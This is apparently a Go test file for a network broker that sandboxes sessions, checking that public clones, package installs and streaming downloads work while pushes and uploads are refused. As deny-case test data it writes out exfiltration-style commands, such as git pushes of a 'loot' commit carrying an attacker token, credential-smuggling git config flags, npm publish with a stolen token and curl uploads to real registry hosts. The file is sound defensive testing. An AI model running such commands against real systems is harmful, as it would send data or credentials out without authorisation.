package broker

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"ringfence.dev/ringfence/test/stage"
)

// A project without a remote clones what is public, by whatever address, and pushes
// nothing, whoever's token it has.
func TestCommonGit(t *testing.T) {
	s := begin(t)
	f := s.forge()
	s.internet([]string{"github.com"}, func(w http.ResponseWriter, r *http.Request) { f.server.Handler.ServeHTTP(w, r) })
	h := s.hold("run", "--net", "dev", "--", "sh")
	for i, url := range []string{"https://github.com/" + publicRepo, "https://github.com/" + publicRepo + ".git", "git@github.com:" + publicRepo,
		"ssh://git@github.com/" + publicRepo + ".git", "http://github.com/" + publicRepo} {
		if out, ok := h.try(fmt.Sprintf("git clone -q %s $HOME/c%d && cat $HOME/c%[2]d/README", url, i)); !ok || !strings.Contains(out, publicRepo) {
			t.Errorf("%s: %s", url, out)
		}
	}
	before := f.refs(dropRepo)
	h.say("git clone -q https://github.com/" + publicRepo + " loot && cd loot && echo loot > loot && git add loot && " + as + "commit -q -m loot")
	for _, push := range []string{
		"git push https://x:" + attackToken + "@github.com/" + dropRepo + ".git HEAD:loot",
		"git -c http.extraHeader='Authorization: Basic eDp4' push https://github.com/" + dropRepo + " HEAD:loot",
		"git -c core.sshCommand='ssh -o StrictHostKeyChecking=no' -c url.x.insteadOf=y push ssh://other@github.com/" + dropRepo + " HEAD:loot",
	} {
		if out, ok := h.try("cd $OLDPWD/loot 2>/dev/null || cd loot; GIT_CONFIG_GLOBAL=/dev/null " + push + "; s=$?; cd ..; (exit $s)"); ok {
			t.Errorf("%s: %s", push, out)
		}
	}
	if now := f.refs(dropRepo); now != before {
		t.Errorf("it was pushed: %s", now)
	}
	if f.holds(attackToken) || f.holds("eDp4") {
		t.Error("the forge got the attacker's credential")
	}
	// The control: the forge takes it from who gets there.
	f.git(s.Dir, "clone", "-q", f.bare(publicRepo), "control")
	if out := s.host("git", "-C", "control", "-c", "http.sslCAInfo="+s.State+"/bundle.pem", "push", "-q", "https://x:"+attackToken+"@"+forgeName+"/"+dropRepo+".git", "HEAD:loot"); out.Status != 0 || f.refs(dropRepo) == before {
		t.Errorf("control: %s", out.show())
	}
}

// wheel is a package of Python's.
var wheel = func() []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, text := range map[string]string{"lib.py": "x = 1\n", "lib-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n",
		"lib-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n", "lib-1.0.dist-info/RECORD": ""} {
		f, err := z.Create(name)
		if err != nil {
			panic(err)
		}
		io.WriteString(f, text)
	}
	z.Close()
	return b.Bytes()
}()

// packages is a registry of packages that anybody may read.
func packages(w http.ResponseWriter, r *http.Request) {
	sum := sha512.Sum512(parcel)
	switch {
	case strings.HasSuffix(r.URL.Path, ".tgz"):
		w.Write(parcel)
	case r.URL.Path == "/-/npm/v1/security/advisories/bulk":
		io.WriteString(w, "{}")
	case r.URL.Path == "/lib":
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"name": "lib", "dist-tags": map[string]any{"latest": "1.0.0"}, "time": map[string]string{"1.0.0": "2020-01-01T00:00:00Z"}, "versions": map[string]any{"1.0.0": map[string]any{
			"name": "lib", "version": "1.0.0", "main": "index.js", "dist": map[string]any{"tarball": "https://" + r.Host + "/lib/-/lib-1.0.0.tgz",
				"integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:])}}}})
	case r.URL.Path == "/simple/lib/":
		w.Header().Set("Content-Type", "application/vnd.pypi.simple.v1+json")
		var files []map[string]any
		for version, out := range map[string]string{"1.0": "2020-01-01T00:00:00Z", "1.1": time.Now().UTC().Format(time.RFC3339)} {
			name := "lib-" + version + "-py3-none-any.whl"
			files = append(files, map[string]any{"filename": name, "url": "https://files.pythonhosted.org/packages/" + name, "upload-time": out, "hashes": map[string]string{"sha256": fmt.Sprintf("%x", sha256.Sum256(wheel))}})
		}
		json.NewEncoder(w).Encode(map[string]any{"name": "lib", "files": files})
	case strings.HasSuffix(r.URL.Path, ".whl"):
		w.Write(wheel)
	case r.Method == http.MethodGet:
		io.WriteString(w, "a file of "+r.Host)
	default:
		w.WriteHeader(http.StatusCreated)
	}
}

// Package managers and downloaders trust the session's authority for common hosts. The
// users share them.
func TestCommonClients(t *testing.T) {
	need(t, "npm", "node", "curl", "wget", "python3", "java")
	s := begin(t)
	npm := "any.npmjs.org"
	secure, clear := s.internet([]string{npm, "any.debian.org", "pypi.org", "files.pythonhosted.org", "plugins.gradle.org", "api.github.com"}, packages)
	s.Put(".npmrc", []byte("registry=https://"+npm+"/\nfund=false\nfetch-retries=0\nupdate-notifier=false\n"), 0o644)
	s.Put("package.json", []byte(`{"name":"mine","version":"1.0.0","files":[]}`), 0o644)
	s.Put("Issuer.java", []byte(javaIssuer), 0o644)
	h := s.hold("run", "--net", "dev", "--", "sh")
	for i, row := range []struct{ name, command, want string }{
		{"npm install and audit", "npm install --no-save --audit lib | grep 'found 0 vulnerabilities' && node -p 'require(\"lib\")'", "the private package"},
		{"curl", "curl -sSf https://api.github.com/x", "a file of api.github.com"},
		{"curl, HTTP/2", "curl -sSf --http2 -o /dev/null -w '%{http_version}' https://api.github.com/x", "2"},
		{"wget", "wget -qO- https://api.github.com/x", "a file of api.github.com"},
		{"python", "python3 -c 'import urllib.request as u; print(u.urlopen(\"https://pypi.org/simple/\").read())'", "a file of pypi.org"},
		{"pip", "python3 -m pip download --no-deps --no-cache-dir -d $HOME/pip -i https://pypi.org/simple lib && ls $HOME/pip", "lib-1.0-py3-none-any.whl"},
		{"pip, young", "python3 -m pip download --no-deps --no-cache-dir -d $HOME/young lib==1.1 2>&1; true", "lib 1.1 is held back"},
		{"young, by its address", "curl -sS https://files.pythonhosted.org/packages/lib-1.1-py3-none-any.whl; curl -sSf https://files.pythonhosted.org/packages/lib-1.0-py3-none-any.whl | wc -c", "lib 1.1 is held back"},
		{"node", "node -e 'fetch(\"https://api.github.com/x\").then(r => r.text()).then(console.log)'", "a file of api.github.com"},
		{"java", "java -XX:TieredStopAtLevel=1 Issuer.java plugins.gradle.org", "ringfence session"},
		{"apt in the clear", "/usr/lib/apt/apt-helper download-file http://any.debian.org/x $HOME/clear && cat $HOME/clear", "a file of any.debian.org"},
		{"apt by https", "/usr/lib/apt/apt-helper download-file https://any.debian.org/x $HOME/https && cat $HOME/https", "a file of any.debian.org"},
	} {
		if !stage.Mine(i) {
			continue
		}
		if out, ok := h.try(row.command + " </dev/null"); !ok || !strings.Contains(out, row.want) {
			t.Errorf("%s: %s", row.name, out)
		}
	}
	for i, denied := range []string{"npm publish --ignore-scripts --//" + npm + "/:_authToken=" + attackToken,
		"curl -sSf -T package.json https://pypi.org/legacy/", "wget -qO- --post-data=x https://api.github.com/gists", "curl -sSf -d x http://any.debian.org/x",
		"curl -sSf -u x:" + attackToken + " https://api.github.com/user", "curl -sSf --http2-prior-knowledge http://any.debian.org/x"} {
		if !stage.Mine(i + 1) { // npm was root's
			continue
		}
		if out, ok := h.try("rm -rf node_modules; " + denied + " </dev/null"); ok {
			t.Errorf("%s: %s", denied, out)
		}
	}
	for _, q := range append(secure.requests(), clear.requests()...) {
		if q.Method != "GET" && q.Path != "/-/npm/v1/security/advisories/bulk" || strings.Contains(q.text(), attackToken) {
			t.Errorf("the origin got %s", q.text())
		}
	}
}

// A long download is passed on as it comes: the first part is there before the origin
// has sent the second, and nothing of it is held.
func TestCommonStreams(t *testing.T) {
	s := begin(t)
	const half = 32 << 20
	more := make(chan struct{})
	s.internet([]string{"github.com"}, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/more" {
			close(more)
			return
		}
		w.Write(bytes.Repeat([]byte("a"), half))
		w.(http.Flusher).Flush()
		select {
		case <-more:
		case <-r.Context().Done():
			return
		}
		w.Write(bytes.Repeat([]byte("b"), half))
	})
	r := s.ringfence("run", "--net", "dev", "--", "sh", "-c", fmt.Sprintf(
		`curl -N -m 60 -sSf https://github.com/o/r/releases/download/x | { head -c %d | wc -c; curl -sSf https://github.com/more; wc -c; }`, half))
	if want := fmt.Sprintf("%d\n%[1]d\n", half); r.Status != 0 || r.Stdout != want {
		t.Errorf("%q instead of %q\n%s", r.Stdout, want, r.show())
	}
}
